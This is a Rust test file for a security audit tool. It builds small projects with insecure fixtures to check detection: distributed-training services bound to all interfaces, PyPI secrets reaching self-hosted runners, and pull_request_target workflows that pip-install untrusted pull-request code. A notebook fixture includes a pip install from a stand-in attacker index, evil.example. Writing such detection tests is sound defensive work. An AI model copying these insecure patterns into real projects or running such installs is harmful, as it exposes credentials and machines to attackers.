//! Issue 18: every way an attacker review got the distributed and release
//! checks to miss an exposure, call a safe shape exposed, or claim more than
//! they read, as a project built in a temporary directory.

use crate::common;

use std::collections::BTreeSet;

fn project(files: &[(&str, &[u8])]) -> tempfile::TempDir {
    let d = tempfile::tempdir().unwrap();
    for (path, body) in files {
        let p = d.path().join(path);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(p, body).unwrap();
    }
    d
}

fn audit(d: &std::path::Path, check: &str) -> (BTreeSet<String>, i32, serde_json::Value) {
    let out = common::pickguard()
        .arg("audit")
        .arg(d)
        .args(["--check", check, "--format", "json"])
        .output()
        .unwrap();
    let doc: serde_json::Value = serde_json::from_slice(&out.stdout)
        .unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(&out.stderr)));
    let rules = doc["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["rule"].as_str().unwrap()[..6].to_owned())
        .collect();
    (rules, out.status.code().unwrap(), doc)
}

fn expect(name: &str, files: &[(&str, &[u8])], check: &str, want: &[&str], code: i32) {
    let d = project(files);
    let (got, c, doc) = audit(d.path(), check);
    let want: BTreeSet<String> = want.iter().map(|s| s.to_string()).collect();
    assert_eq!(got, want, "{name}: {doc}");
    assert_eq!(c, code, "{name}: exit {c}: {doc}");
}

#[test]
fn distributed_bypasses_are_found() {
    let safe: (&str, &[u8]) = (
        "scripts/ok.sh",
        b"#!/bin/sh\ntorchrun --nnodes=2 --rdzv-endpoint=10.0.0.5:29400 train.py\n",
    );
    // A Latin-1 byte does not hide a file.
    expect(
        "latin-1 script",
        &[
            safe,
            (
                "scripts/b.sh",
                b"#!/bin/sh\n# r\xe9sum\xe9\ntorchrun --nnodes=2 --rdzv-endpoint=0.0.0.0:29400 train.py\n",
            ),
        ],
        "distributed",
        &["AUD101"],
        1,
    );
    expect(
        "latin-1 python",
        &[(
            "store.py",
            b"# caf\xe9\nimport torch.distributed as dist\ns = dist.TCPStore('0.0.0.0', 29500, 2, True)\n",
        )],
        "distributed",
        &["AUD101", "AUD105"],
        1,
    );
    // Scripts without an extension, hidden CI directories, Containerfiles.
    expect(
        "places",
        &[
            safe,
            (
                "bin/launch-multinode",
                b"#!/bin/bash\ntorchrun --nnodes=2 --rdzv-endpoint=0.0.0.0:29400 train.py\n",
            ),
            (
                ".ci/run.sh",
                b"#!/bin/bash\ntorchrun --nnodes=2 --master-addr=34.120.1.2 train.py\n",
            ),
        ],
        "distributed",
        &["AUD101", "AUD102"],
        1,
    );
    expect(
        "os.environ subscript",
        &[(
            "launch.py",
            b"import os, torch\nos.environ['MASTER_ADDR'] = '34.120.10.5'\n",
        )],
        "distributed",
        &["AUD102"],
        1,
    );
    expect(
        "is_master expression, f-string constant, alias",
        &[
            (
                "a.py",
                b"from torch.distributed import TCPStore\ndef mk(rank):\n    return TCPStore(\n        \"10.0.0.5\",\n        29500,\n        2,\n        rank == 0,\n    )\n",
            ),
            (
                "b.py",
                b"import torch.distributed as dist\naddr, port = \"0.0.0.0\", 29500\ndist.init_process_group(\"nccl\", init_method=f\"tcp://{addr}:{port}\", rank=0, world_size=2)\n",
            ),
        ],
        "distributed",
        &["AUD105", "AUD101"],
        1,
    );
    expect(
        "shell variable, docker host network, echo",
        &[(
            "run.sh",
            b"#!/bin/sh\necho \"usage: torchrun --rdzv-endpoint=0.0.0.0:29400\"\nENDPOINT=0.0.0.0:29400\ntorchrun --nnodes=2 --rdzv-endpoint=$ENDPOINT train.py\ndocker run --gpus all --network=host img torchrun --standalone train.py\n",
        )],
        "distributed",
        &["AUD101", "AUD104"],
        1,
    );
    let d = project(&[(
        "echo.sh",
        b"#!/bin/sh\necho \"usage: torchrun --rdzv-endpoint=0.0.0.0:29400\"\ntorchrun --standalone t.py\n",
    )]);
    assert_eq!(
        audit(d.path(), "distributed").0,
        BTreeSet::new(),
        "echo is not a launch"
    );
    expect(
        "compose environment, externalIPs, List",
        &[
            (
                "docker-compose.yml",
                b"services:\n  t:\n    command: torchrun --standalone t.py\n    environment:\n      - MASTER_ADDR=0.0.0.0\n",
            ),
            (
                "k8s/svc.yaml",
                b"apiVersion: v1\nkind: List\nitems:\n  - kind: Service\n    metadata: {name: m}\n    spec:\n      externalIPs: [34.1.2.3]\n      ports:\n        - port: 29500\n",
            ),
        ],
        "distributed",
        &["AUD101", "AUD103"],
        1,
    );
}

const TWINE: &[u8] = b"release:\n\tpython -m twine upload dist/*\n";

#[test]
fn release_bypasses_are_found() {
    expect(
        "make release with a secret",
        &[
            ("Makefile", TWINE),
            (
                ".github/workflows/r.yml",
                b"on: {push: {tags: ['v*']}}\njobs:\n  pub:\n    runs-on: [self-hosted, linux]\n    steps:\n      - uses: actions/checkout@v4\n      - run: make release\n        env:\n          TWINE_PASSWORD: ${{ secrets.PYPI_TOKEN }}\n",
            ),
        ],
        "release",
        &["AUD201", "AUD203", "AUD204"],
        1,
    );
    expect(
        "composite action",
        &[
            (
                ".github/actions/publish/action.yml",
                b"name: publish\nruns:\n  using: composite\n  steps:\n    - run: twine upload dist/*\n      shell: bash\n",
            ),
            (
                ".github/workflows/r.yml",
                b"on: {push: {tags: ['v*']}}\njobs:\n  pub:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: ./.github/actions/publish\n",
            ),
        ],
        "release",
        &["AUD203"],
        1,
    );
    expect(
        "remote reusable workflow with secrets",
        &[(
            ".github/workflows/r.yml",
            b"on: {push: {tags: ['v*']}}\njobs:\n  build:\n    runs-on: [self-hosted]\n    steps:\n      - run: python -m build\n  pub:\n    needs: build\n    uses: acme/shared/.github/workflows/publish.yml@main\n    secrets: inherit\n",
        )],
        "release",
        &["AUD201", "AUD210"],
        1,
    );
    for (name, wf) in [
        (
            "git fetch pull/N",
            &b"on: pull_request_target\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: git fetch origin pull/${{ github.event.pull_request.number }}/head:pr && git checkout pr && pip install -e .\n"[..],
        ),
        (
            "env indirection",
            b"on: pull_request_target\nenv:\n  PR_SHA: ${{ github.event.pull_request.head.sha }}\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ env.PR_SHA }}\n",
        ),
        (
            "reusable workflow given the head",
            b"on: pull_request_target\njobs:\n  t:\n    uses: ./.github/workflows/_test.yml\n    with:\n      sha: ${{ github.event.pull_request.head.sha }}\n    secrets: inherit\n",
        ),
    ] {
        expect(name, &[(".github/workflows/pr.yml", wf)], "release", &["AUD205"], 1);
    }
    let runner = |labels: &str| -> Vec<u8> {
        format!("on: {{push: {{tags: ['v*']}}}}\njobs:\n  pub:\n    runs-on: {labels}\n    environment: pypi\n    permissions: {{id-token: write}}\n    steps:\n      - run: uv publish\n").into_bytes()
    };
    for (labels, want) in [
        ("ubuntu-gpu-a100", &["AUD201"][..]),
        ("[self-hosted, non-ephemeral]", &["AUD201"]),
        ("[self-hosted, linux, ephemeral]", &[]),
        ("ubuntu-24.04-arm", &[]),
        ("macos-15-xlarge", &[]),
        ("windows-2025", &[]),
        ("\"${{ inputs.runner }}\"", &["AUD201"]),
    ] {
        let mut wf = runner(labels);
        if labels.contains("inputs") {
            wf = String::from_utf8(wf)
                .unwrap()
                .replace(
                    "on: {push: {tags: ['v*']}}",
                    "on:\n  workflow_dispatch:\n    inputs:\n      runner: {default: self-hosted}",
                )
                .into_bytes();
        }
        let code = if want.is_empty() { 0 } else { 1 };
        expect(
            labels,
            &[(".github/workflows/r.yml", &wf)],
            "release",
            want,
            code,
        );
    }
    expect(
        "environment: null",
        &[(
            ".github/workflows/r.yml",
            b"on: {push: {tags: ['v*']}}\njobs:\n  pub:\n    runs-on: ubuntu-latest\n    environment: null\n    steps:\n      - run: uv publish\n",
        )],
        "release",
        &["AUD203"],
        1,
    );
}

#[test]
fn release_images_and_tags() {
    expect(
        "skopeo, --all-tags, ARG base",
        &[
            ("Dockerfile", b"ARG BASE=pytorch/pytorch:latest\nFROM ${BASE}\nRUN pip install .\n"),
            (
                ".github/workflows/img.yml",
                b"on: {push: {branches: [main]}}\njobs:\n  img:\n    runs-on: ubuntu-latest\n    environment: registry\n    steps:\n      - run: |\n          docker build -t ghcr.io/acme/x:nightly .\n          docker tag ghcr.io/acme/x:nightly ghcr.io/acme/x:${GITHUB_SHA}\n          docker push --all-tags ghcr.io/acme/x\n      - run: skopeo copy docker-archive:img.tar docker://ghcr.io/acme/y:latest\n",
            ),
        ],
        "release",
        &["AUD207", "AUD208"],
        1,
    );
    // The common docker publish: tags computed by metadata-action, and
    // ref_name on a tag-only workflow, are not "mutable tags".
    expect(
        "metadata-action and tag pushes",
        &[(
            ".github/workflows/img.yml",
            b"on: {push: {tags: ['v*']}}\njobs:\n  img:\n    runs-on: ubuntu-latest\n    environment: registry\n    steps:\n      - id: meta\n        uses: docker/metadata-action@902fa8ec7d6ecbf8d84d538b9b233a880e428804\n      - uses: docker/build-push-action@263435318d21b8e681c14492fe198d362a7d2c83\n        with:\n          push: true\n          tags: ${{ steps.meta.outputs.tags }}\n      - run: docker push ghcr.io/acme/x:${{ github.ref_name }}\n",
        )],
        "release",
        &[],
        0,
    );
}

#[test]
fn gitlab_shapes() {
    expect(
        "runner tags, image tag, !reference, include local",
        &[
            (
                ".gitlab-ci.yml",
                b"include:\n  - local: ci/release.yml\n.scripts:\n  upload:\n    - twine upload dist/*\npublish:\n  image: python:3.11\n  tags: [gpu-shell-runner]\n  environment: pypi\n  script:\n    - !reference [.scripts, upload]\n",
            ),
            (
                "ci/release.yml",
                b"nightly:\n  image: python:3.11@sha256:8a7e5d5cb3e0e8b1b8b3fbe2a4b6f6d9c0a1b2c3d4e5f60718293a4b5c6d7e8f\n  script:\n    - uv publish\n",
            ),
        ],
        "release",
        &["AUD201", "AUD203", "AUD208"],
        1,
    );
    // A remote include cannot be read: incomplete, never clean.
    expect(
        "remote include",
        &[(
            ".gitlab-ci.yml",
            b"include:\n  - project: acme/ci-templates\n    file: release.yml\nbuild:\n  script: [python -m build]\n",
        )],
        "release",
        &[],
        2,
    );
}

#[test]
fn honest_output() {
    // Unread files make SARIF say the run did not succeed.
    let d = project(&[(".github/workflows/bad.yml", b"jobs:\n  p: [unclosed\n")]);
    let out = common::pickguard()
        .arg("audit")
        .arg(d.path())
        .args(["--check", "release", "--format", "sarif"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    let s: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let inv = &s["runs"][0]["invocations"][0];
    assert_eq!(inv["executionSuccessful"], false, "{s}");
    assert!(
        inv["toolExecutionNotifications"][0]["message"]["text"]
            .as_str()
            .unwrap()
            .contains("bad.yml")
    );
    let text = common::pickguard()
        .arg("audit")
        .arg(d.path())
        .args(["--check", "release"])
        .output()
        .unwrap();
    let t = String::from_utf8_lossy(&text.stdout);
    assert!(
        t.contains("could not be read") && !t.contains("no GitHub Actions workflow"),
        "{t}"
    );
    // A closed pipe is not a crash.
    let mut child = common::pickguard()
        .arg("audit")
        .arg(common::root().join("fixtures/audit/release-pypi-repo-token"))
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    drop(child.stdout.take());
    let out = child.wait_with_output().unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(!err.contains("panicked"), "{err}");
    // A workflow reached through a symbolic link is read.
    let d = project(&[(
        "ci/rel.yml",
        b"on: push\njobs:\n  p:\n    runs-on: ubuntu-latest\n    steps:\n      - run: twine upload dist/*\n",
    )]);
    std::fs::create_dir_all(d.path().join(".github/workflows")).unwrap();
    std::os::unix::fs::symlink(
        "../../ci/rel.yml",
        d.path().join(".github/workflows/rel.yml"),
    )
    .unwrap();
    assert!(audit(d.path(), "release").0.contains("AUD203"));
}

/// A configuration file that cannot be parsed makes the dependency-confusion
/// answer incomplete (exit 2), not "no exposure".
#[test]
fn unparsable_configuration_is_incomplete() {
    let d = project(&[
        (
            "pyproject.toml",
            b"# caf\xe9\n[project]\nname = \"x\"\n[tool.uv]\nextra-index-url = [\"https://pkgs.acme.example/simple/\"]\n",
        ),
        ("requirements.txt", b"--index-url https://pkgs.acme.example/simple/\nacme-internal\n"),
    ]);
    let (_, code, doc) = audit(d.path(), "confusion");
    assert_eq!(code, 2, "{doc}");
}

/// Notebooks are where data scientists install packages: `%pip install`
/// with an extra index, `os.environ` index settings, `!torchrun` bound to
/// every interface, `init_process_group` in a code cell. Each is found at
/// the notebook's own line (the notebooks are written by the real
/// nbformat); markdown cells are not code; a notebook that cannot be read
/// makes the answer incomplete.
#[cfg(feature = "live")]
#[test]
fn notebooks_are_read_cell_by_cell() {
    let d = tempfile::tempdir().unwrap();
    let py = r#"
import sys, nbformat
from nbformat.v4 import new_notebook, new_code_cell, new_markdown_cell
nb = new_notebook(cells=[
    new_markdown_cell("Install with `!pip install --extra-index-url https://evil.example/simple x`"),
    new_code_cell("%pip install --extra-index-url https://pypi.internal.example/simple acme-core"),
    new_code_cell("import os\nos.environ[\"PIP_EXTRA_INDEX_URL\"] = \"https://pypi.internal.example/simple\"\n!pip install acme-utils"),
    new_code_cell("!torchrun --nnodes=2 --rdzv-endpoint=0.0.0.0:29400 train.py"),
    new_code_cell("import torch.distributed as dist\ndist.init_process_group('nccl', init_method='tcp://0.0.0.0:23456', rank=0, world_size=2)"),
])
nbformat.write(nb, sys.argv[1] + "/train.ipynb")
md = new_notebook(cells=[new_markdown_cell("%pip install --extra-index-url https://evil.example/simple x")])
nbformat.write(md, sys.argv[1] + "/notes/readme.ipynb")
"#;
    std::fs::create_dir_all(d.path().join("notes")).unwrap();
    common::Run::ok(
        std::process::Command::new(common::venv_bin("python"))
            .args(["-c", py])
            .arg(d.path()),
    );
    let text = std::fs::read_to_string(d.path().join("train.ipynb")).unwrap();
    let line_of = |needle: &str| {
        text.lines()
            .position(|l| l.contains(needle))
            .map(|i| i + 1)
            .unwrap_or_else(|| panic!("{needle} not in the notebook"))
    };
    let (rules, code, doc) = audit(d.path(), "confusion,distributed");
    assert_eq!(code, 1, "{doc}");
    for r in ["AUD012", "AUD101"] {
        assert!(rules.contains(r), "{r} missing: {doc}");
    }
    let findings = doc["findings"].as_array().unwrap();
    let at = |rule: &str, line: usize| {
        findings.iter().any(|f| {
            f["rule"].as_str().unwrap().starts_with(rule)
                && f["file"] == "train.ipynb"
                && f["line"] == line
        })
    };
    assert!(at("AUD012", line_of("%pip install")), "{doc}");
    assert!(at("AUD012", line_of("!pip install acme-utils")), "{doc}");
    assert!(at("AUD101", line_of("!torchrun")), "{doc}");
    assert!(at("AUD101", line_of("init_process_group")), "{doc}");
    assert!(
        findings.iter().all(|f| f["file"] != "notes/readme.ipynb"
            && !f["message"].as_str().unwrap_or("").contains("evil.example")),
        "a markdown cell was read as code: {doc}"
    );
    // A notebook that is not one: the confusion answer is incomplete.
    let broken = project(&[("broken.ipynb", b"{\"cells\": [ {\"cell_type\": \"code\", ")]);
    let (rules, code, doc) = audit(broken.path(), "confusion");
    assert!(rules.is_empty(), "{doc}");
    assert_eq!(code, 2, "an unread notebook must not pass: {doc}");
}
